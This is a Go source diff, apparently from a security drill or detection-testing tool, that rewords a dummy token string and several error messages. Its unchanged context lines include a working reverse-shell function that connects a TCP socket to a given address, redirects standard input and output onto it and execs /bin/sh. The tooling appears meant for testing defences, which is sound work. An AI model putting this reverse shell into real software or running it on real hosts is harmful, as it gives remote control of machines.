@@ -95,7 +95,7 @@ func readFakeToken() error {
 	if err := os.MkdirAll(dir, 0o755); err != nil {
 		return fmt.Errorf("write the token: %w", err)
 	}
-	if err := os.WriteFile(dir+"/token", []byte("a worthless token of a drill\n"), 0o600); err != nil {
+	if err := os.WriteFile(dir+"/token", []byte("a dummy token for a drill\n"), 0o600); err != nil {
 		return fmt.Errorf("write the token: %w", err)
 	}
 	if err := exec.Command("cat", dir+"/token").Run(); err != nil { //nolint:noctx // at once
@@ -138,19 +138,19 @@ func runTerminalShell() error {
 func runReverseShell(address string) error {
 	c, err := net.DialTimeout("tcp", address, 5*time.Second) //nolint:noctx // at once
 	if err != nil {
-		return fmt.Errorf("connect: %w", err)
+		return fmt.Errorf("connect to the drill's peer: %w", err)
 	}
 	f, err := c.(*net.TCPConn).File()
 	if err != nil {
-		return fmt.Errorf("connect: %w", err)
+		return fmt.Errorf("connect to the drill's peer: %w", err)
 	}
 	for fd := range 3 {
 		if err := unix.Dup2(int(f.Fd()), fd); err != nil {
-			return fmt.Errorf("connect: %w", err)
+			return fmt.Errorf("connect to the drill's peer: %w", err)
 		}
 	}
 	if err := unix.SetNonblock(0, false); err != nil {
-		return fmt.Errorf("connect: %w", err)
+		return fmt.Errorf("connect to the drill's peer: %w", err)
 	}
 	return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()) //nolint:wrapcheck // does not return
 }
